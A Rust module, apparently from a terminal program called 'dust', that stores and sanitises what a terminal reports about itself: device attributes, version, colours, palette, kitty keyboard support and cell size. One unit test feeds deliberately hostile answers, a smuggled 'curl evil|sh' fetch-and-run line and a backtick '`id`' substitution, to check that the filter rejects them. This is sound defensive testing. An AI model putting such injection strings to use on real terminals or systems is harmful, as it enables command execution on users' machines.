//! What is known of the terminal that looked last: the answers it gave to programs' questions.

use std::collections::BTreeMap;

use super::scan::{Scanner, Token};

/// The longest answer that is remembered.
const LONGEST: usize = 128;
/// The colours that OSC 10, 11 and 12 ask for, where no terminal said: light grey on black.
const DEFAULTS: [&str; 3] = [
    "rgb:d8d8/d8d8/d8d8",
    "rgb:0000/0000/0000",
    "rgb:d8d8/d8d8/d8d8",
];
/// The columns and rows of a character in pixels, where no terminal said.
const CELL: (u16, u16) = (8, 16);

/// What a terminal said of itself. A server keeps one a terminal and lets it [hear](Facts::hear) all
/// that the terminal sends; while nobody looks at a raw shell, programs get these answers.
#[derive(Clone, Debug, Default)]
pub struct Facts {
    scanner: Heard,
    attributes: Option<String>,
    secondary: Option<String>,
    version: Option<String>,
    /// Of OSC 10, 11, 12.
    colours: [Option<String>; 3],
    palette: BTreeMap<u8, String>,
    /// Kitty's keyboard protocol is understood.
    kitty: bool,
    cell: Option<(u16, u16)>,
}

/// A scanner starts anew in a copy: half an answer is of no use there.
#[derive(Debug, Default)]
struct Heard(Scanner);

impl Clone for Heard {
    fn clone(&self) -> Self {
        Self::default()
    }
}

impl Facts {
    /// Takes what a terminal sent, keys and answers mixed, in pieces of any size.
    pub fn hear(&mut self, bytes: &[u8]) {
        // Typing is no news.
        if self.scanner.0.is_idle() && memchr::memchr(0x1b, bytes).is_none() {
            return;
        }
        let mut scanner = std::mem::take(&mut self.scanner);
        scanner.0.scan(bytes, &mut |token| self.token(&token));
        self.scanner = scanner;
    }

    fn token(&mut self, token: &Token<'_>) {
        match token {
            Token::Csi(csi) => match csi.kind() {
                (b'?', 0, b'c') => self.attributes = printable(csi.raw),
                (b'>', 0, b'c') => self.secondary = printable(csi.raw),
                (b'?', 0, b'u') => self.kitty = true,
                (0, 0, b't') if csi.parameter(0) == Some(6) => {
                    self.cell = csi.parameter(2).zip(csi.parameter(1));
                },
                _ => {},
            },
            Token::Dcs { body } => {
                if let Some(version) = body.strip_prefix(b">|") {
                    self.version = printable(version);
                }
            },
            Token::Osc { body, .. } => drop(self.colour(body)),
            Token::Text(_) | Token::Escape { .. } => {},
        }
    }

    fn colour(&mut self, body: &[u8]) -> Option<()> {
        let text = printable(body)?;
        let (number, rest) = text.split_once(';')?;
        if number == "4" {
            let (index, colour) = rest.split_once(';')?;
            let index = index.parse().ok()?;
            self.palette.insert(index, colour_of(colour)?);
        } else {
            let at = number.parse::<usize>().ok()?.checked_sub(10)?;
            *self.colours.get_mut(at)? = Some(colour_of(rest)?);
        }
        Some(())
    }

    /// The answer to DA1: at least a VT220 with colours.
    pub(super) fn attributes(&self) -> &str {
        self.attributes.as_deref().unwrap_or("\x1b[?62;22c")
    }

    /// The answer to DA2.
    pub(super) fn secondary(&self) -> &str {
        self.secondary.as_deref().unwrap_or("\x1b[>0;10;0c")
    }

    /// What XTVERSION tells.
    pub(super) fn version(&self) -> &str {
        let own = concat!("dust(", env!("CARGO_PKG_VERSION"), ")");
        self.version.as_deref().unwrap_or(own)
    }

    /// Colour 10, 11 or 12: text, background, cursor.
    pub(super) fn dynamic(&self, number: u8) -> Option<&str> {
        let at = usize::from(number.checked_sub(10)?);
        let known = self.colours.get(at)?.as_deref();
        known.or_else(|| DEFAULTS.get(at).copied())
    }

    /// Colour `index` of the palette; xterm's where the terminal did not say.
    pub(super) fn palette(&self, index: u8) -> String {
        let known = self.palette.get(&index).cloned();
        known.unwrap_or_else(|| {
            let [r, g, b] = xterm_colour(index);
            format!("rgb:{r:02x}{r:02x}/{g:02x}{g:02x}/{b:02x}{b:02x}")
        })
    }

    /// The terminal answered that it understands kitty's keyboard protocol.
    pub(super) fn kitty(&self) -> bool {
        self.kitty
    }

    /// Width and height of a character in pixels.
    pub(super) fn cell(&self) -> (u16, u16) {
        self.cell.unwrap_or(CELL)
    }
}

fn printable(bytes: &[u8]) -> Option<String> {
    let sane = |b: &u8| matches!(b, 0x20..=0x7e | 0x1b);
    if bytes.len() > LONGEST || !bytes.iter().all(sane) {
        return None;
    }
    String::from_utf8(bytes.to_vec()).ok()
}

/// A colour as XParseColor has it: `rgb:` and three hexadecimal numbers, or `#`. In what it is given
/// nothing else may hide.
pub(super) fn colour_of(text: &str) -> Option<String> {
    let digits = text
        .strip_prefix("rgb:")
        .or_else(|| text.strip_prefix("rgba:"))
        .or_else(|| text.strip_prefix('#'))?;
    let hex = |c: char| c.is_ascii_hexdigit() || c == '/';
    (text.len() <= 32 && !digits.is_empty() && digits.chars().all(hex)).then(|| text.to_owned())
}

/// xterm's 256 colours: 16 by name, a cube of 216, 24 greys.
fn xterm_colour(index: u8) -> [u8; 3] {
    const NAMED: [[u8; 3]; 16] = [
        [0, 0, 0],
        [205, 0, 0],
        [0, 205, 0],
        [205, 205, 0],
        [0, 0, 238],
        [205, 0, 205],
        [0, 205, 205],
        [229, 229, 229],
        [127, 127, 127],
        [255, 0, 0],
        [0, 255, 0],
        [255, 255, 0],
        [92, 92, 255],
        [255, 0, 255],
        [0, 255, 255],
        [255, 255, 255],
    ];
    if let Some(named) = NAMED.get(usize::from(index)) {
        return *named;
    }
    if index >= 232 {
        return [8 + 10 * (index - 232); 3];
    }
    let cube = index - 16;
    [cube / 36, cube / 6 % 6, cube % 6].map(|level| if level == 0 { 0 } else { 55 + 40 * level })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn answers_are_found_among_keys_and_in_pieces() {
        let mut facts = Facts::default();
        for piece in [
            "ls\r\x1b[A",
            "\x1b[?62;",
            "4c\x1b]11;rgb:1111/2222/3333",
            "\x07\x1b]4;7;rgb:ff/ff/ff\x1b\\\x1bP>|foot(1.20)\x1b\\\x1b[?0u\x1b[6;20;10t",
        ] {
            facts.hear(piece.as_bytes());
        }
        assert_eq!(facts.attributes(), "\x1b[?62;4c");
        assert_eq!(facts.dynamic(11), Some("rgb:1111/2222/3333"));
        assert_eq!(facts.palette(7), "rgb:ff/ff/ff");
        assert_eq!(facts.palette(231), "rgb:ffff/ffff/ffff");
        assert_eq!(facts.palette(16 + 36), "rgb:5f5f/0000/0000");
        assert_eq!(facts.palette(255), "rgb:eeee/eeee/eeee");
        assert_eq!(facts.version(), "foot(1.20)");
        assert!(facts.kitty());
        assert_eq!(facts.cell(), (10, 20));
    }

    #[test]
    fn nothing_hides_in_an_answer() {
        let mut facts = Facts::default();
        facts.hear(b"\x1b]11;rgb:0/0/0\ncurl evil|sh\x07\x1b]10;`id`\x07\x1bP>|a\rb\x1b\\");
        assert_eq!(facts.dynamic(11), Some("rgb:0000/0000/0000"));
        assert_eq!(facts.dynamic(10), Some("rgb:d8d8/d8d8/d8d8"));
        assert!(facts.version().starts_with("dust("));
    }
}
